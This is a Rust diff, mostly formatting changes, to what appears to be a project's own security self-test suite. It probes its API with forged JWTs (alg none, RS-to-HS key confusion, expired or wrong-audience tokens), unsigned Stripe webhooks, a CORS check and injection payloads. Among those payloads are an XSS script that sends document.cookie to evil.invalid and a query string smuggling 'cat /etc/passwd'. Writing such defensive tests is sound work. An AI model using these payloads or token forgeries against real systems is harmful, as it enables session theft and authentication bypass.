@@ -50,7 +50,10 @@ async fn send(
     Ok(Answer {
         status: *response.status(),
         code: body.get("code").and_then(Value::as_str).map(str::to_string),
-        headers: response.headers().map(|(k, v)| (k.to_ascii_lowercase(), v.as_str().unwrap_or("").to_string())).collect(),
+        headers: response
+            .headers()
+            .map(|(k, v)| (k.to_ascii_lowercase(), v.as_str().unwrap_or("").to_string()))
+            .collect(),
     })
 }
 
@@ -81,15 +84,35 @@ fn public_key_material() -> Option<(String, String)> {
 /// Forged and broken tokens must each get 401 from a user endpoint.
 pub async fn forged_tokens() -> Vec<Finding> {
     let mut cases: Vec<(&str, &str, Option<String>)> = vec![
-        ("jwt_alg_none", "a token with `alg: none` and no signature", Some(unsigned(&json!({"alg": "none", "typ": "JWT"}), &claims("authenticated", 3600)))),
-        ("jwt_wrong_key", "an HS256 token signed with a key that is not the project's", Some(mint_hs256(&claims("authenticated", 3600), "a-different-secret-of-sufficient-length-0000"))),
+        (
+            "jwt_alg_none",
+            "a token with `alg: none` and no signature",
+            Some(unsigned(&json!({"alg": "none", "typ": "JWT"}), &claims("authenticated", 3600))),
+        ),
+        (
+            "jwt_wrong_key",
+            "an HS256 token signed with a key that is not the project's",
+            Some(mint_hs256(&claims("authenticated", 3600), "a-different-secret-of-sufficient-length-0000")),
+        ),
         ("jwt_garbage", "a token that is not a JWT", Some("not.a.jwt-at-all".to_string())),
-        ("jwt_oversized", "a 10 KiB token (over the 8 KiB limit)", Some(format!("eyJhbGciOiJIUzI1NiJ9.{}.sig", "A".repeat(10 * 1024)))),
+        (
+            "jwt_oversized",
+            "a 10 KiB token (over the 8 KiB limit)",
+            Some(format!("eyJhbGciOiJIUzI1NiJ9.{}.sig", "A".repeat(10 * 1024))),
+        ),
     ];
     match config::var("jwt_secret") {
         Some(secret) => {
-            cases.push(("jwt_expired", "a correctly signed token that expired an hour ago", Some(mint_hs256(&claims("authenticated", -3600), &secret))));
-            cases.push(("jwt_wrong_audience", "a correctly signed token for another audience", Some(mint_hs256(&claims("some-other-service", 3600), &secret))));
+            cases.push((
+                "jwt_expired",
+                "a correctly signed token that expired an hour ago",
+                Some(mint_hs256(&claims("authenticated", -3600), &secret)),
+            ));
+            cases.push((
+                "jwt_wrong_audience",
+                "a correctly signed token for another audience",
+                Some(mint_hs256(&claims("some-other-service", 3600), &secret)),
+            ));
         }
         None => cases.push(("jwt_expired", "a correctly signed, expired token", None)),
     }
@@ -97,7 +120,11 @@ pub async fn forged_tokens() -> Vec<Finding> {
         Some((kid, material)) => cases.push((
             "jwt_key_confusion",
             "an HS256 token whose HMAC key is the JWKS public key (RS/ES → HS confusion)",
-            Some(mint_hs256_with_header(&json!({"alg": "HS256", "typ": "JWT", "kid": kid}), &claims("authenticated", 3600), material.as_bytes())),
+            Some(mint_hs256_with_header(
+                &json!({"alg": "HS256", "typ": "JWT", "kid": kid}),
+                &claims("authenticated", 3600),
+                material.as_bytes(),
+            )),
         )),
         None => cases.push(("jwt_key_confusion", "HS256 signed with the JWKS public key", None)),
     }
@@ -106,16 +133,21 @@ pub async fn forged_tokens() -> Vec<Finding> {
     for (name, what, token) in cases {
         let started = Instant::now();
         let Some(token) = token else {
-            out.push(Finding::new("authentication", name, Status::Skip, Severity::Info, what)
-                .evidence(json!({"reason": "nothing to forge it from: the key it needs is not configured"})));
+            out.push(
+                Finding::new("authentication", name, Status::Skip, Severity::Info, what)
+                    .evidence(json!({"reason": "nothing to forge it from: the key it needs is not configured"})),
+            );
             continue;
         };
-        let answer = send(SUBSCRIPTION_STATUS, Method::Get, "", &[("authorization", format!("Bearer {token}"))], None).await;
+        let answer =
+            send(SUBSCRIPTION_STATUS, Method::Get, "", &[("authorization", format!("Bearer {token}"))], None).await;
         let finding = match answer {
             Ok(a) if a.status == 401 => Finding::new("authentication", name, Status::Pass, Severity::Critical, what)
                 .evidence(json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "code": a.code})),
             Ok(a) => Finding::new("authentication", name, Status::Fail, Severity::Critical, what)
-                .evidence(json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "code": a.code, "expected": 401}))
+                .evidence(
+                    json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "code": a.code, "expected": 401}),
+                )
                 .recommend("the token verifier accepted a token it must refuse: check shared::auth"),
             Err(e) => Finding::new("authentication", name, Status::Warning, Severity::High, what)
                 .evidence(json!({"error": e}))
@@ -128,11 +160,17 @@ pub async fn forged_tokens() -> Vec<Finding> {
 
 /// Unsigned and wrongly signed webhooks must be refused (400) before anything is stored.
 pub async fn unsigned_webhooks() -> Vec<Finding> {
-    let event = json!({"id": "evt_security_probe", "object": "event", "type": "customer.created", "data": {"object": {}}}).to_string();
+    let event =
+        json!({"id": "evt_security_probe", "object": "event", "type": "customer.created", "data": {"object": {}}})
+            .to_string();
     let t = shared::auth::now_unix();
     let cases = [
         ("webhook_unsigned", "a Stripe event without a Stripe-Signature header", None),
-        ("webhook_bad_signature", "a Stripe event with a forged signature", Some(format!("t={t},v1={}", "0".repeat(64)))),
+        (
+            "webhook_bad_signature",
+            "a Stripe event with a forged signature",
+            Some(format!("t={t},v1={}", "0".repeat(64))),
+        ),
     ];
     let mut out = Vec::new();
     for (name, what, signature) in cases {
@@ -153,7 +191,8 @@ pub async fn unsigned_webhooks() -> Vec<Finding> {
             Ok(a) => Finding::new("authentication", name, Status::Fail, Severity::Critical, what)
                 .evidence(json!({"endpoint": WEBHOOK_HANDLER.1, "status": a.status, "code": a.code, "expected": 400}))
                 .recommend("webhook-handler must verify Stripe-Signature before anything else"),
-            Err(e) => Finding::new("authentication", name, Status::Warning, Severity::High, what).evidence(json!({"error": e})),
+            Err(e) => Finding::new("authentication", name, Status::Warning, Severity::High, what)
+                .evidence(json!({"error": e})),
         };
         out.push(finding.timed(started));
     }
@@ -162,7 +201,9 @@ pub async fn unsigned_webhooks() -> Vec<Finding> {
 
 /// Injection payloads must be refused by the middleware (403 `threat_detected`).
 pub async fn injections() -> Vec<Finding> {
-    let cases: [(&str, &str, (&str, &str), Method, &str, Option<String>); 3] = [
+    // (finding name, what is sent, target, method, query string, body)
+    type Case = (&'static str, &'static str, (&'static str, &'static str), Method, &'static str, Option<String>);
+    let cases: [Case; 3] = [
         (
             "sql_injection",
             "a SQL injection in the query string",
@@ -177,9 +218,19 @@ pub async fn injections() -> Vec<Finding> {
             QUOTE_PROCESSOR,
             Method::Post,
             "",
-            Some(json!({"title": "<script>document.location='https://evil.invalid/?c='+document.cookie</script>"}).to_string()),
+            Some(
+                json!({"title": "<script>document.location='https://evil.invalid/?c='+document.cookie</script>"})
+                    .to_string(),
+            ),
         ),
-        ("command_injection", "a shell command in the query string", QUOTE_PROCESSOR, Method::Get, "?search=x%3Bcat%20%2Fetc%2Fpasswd", None),
+        (
+            "command_injection",
+            "a shell command in the query string",
+            QUOTE_PROCESSOR,
+            Method::Get,
+            "?search=x%3Bcat%20%2Fetc%2Fpasswd",
+            None,
+        ),
     ];
     let mut out = Vec::new();
     for (name, what, target, method, query, body) in cases {
@@ -216,16 +267,20 @@ pub async fn cors_preflight() -> Finding {
             let evidence = json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "origin": FOREIGN_ORIGIN,
                                   "access_control_allow_origin": allowed, "cors_origins": configured});
             match allowed.as_deref() {
-                Some(o) if o == FOREIGN_ORIGIN => Finding::new("network", "cors_foreign_origin", Status::Fail, Severity::High, what)
-                    .evidence(evidence)
-                    .recommend("the API echoed an origin that is not in cors_origins"),
+                Some(o) if o == FOREIGN_ORIGIN => {
+                    Finding::new("network", "cors_foreign_origin", Status::Fail, Severity::High, what)
+                        .evidence(evidence)
+                        .recommend("the API echoed an origin that is not in cors_origins")
+                }
                 Some("*") => Finding::new("network", "cors_foreign_origin", Status::Warning, Severity::Medium, what)
                     .evidence(evidence)
                     .recommend("set cors_origins to the web app's origins instead of `*`"),
-                _ => Finding::new("network", "cors_foreign_origin", Status::Pass, Severity::Medium, what).evidence(evidence),
+                _ => Finding::new("network", "cors_foreign_origin", Status::Pass, Severity::Medium, what)
+                    .evidence(evidence),
             }
         }
-        Err(e) => Finding::new("network", "cors_foreign_origin", Status::Warning, Severity::Medium, what).evidence(json!({"error": e})),
+        Err(e) => Finding::new("network", "cors_foreign_origin", Status::Warning, Severity::Medium, what)
+            .evidence(json!({"error": e})),
     };
     finding.timed(started)
 }
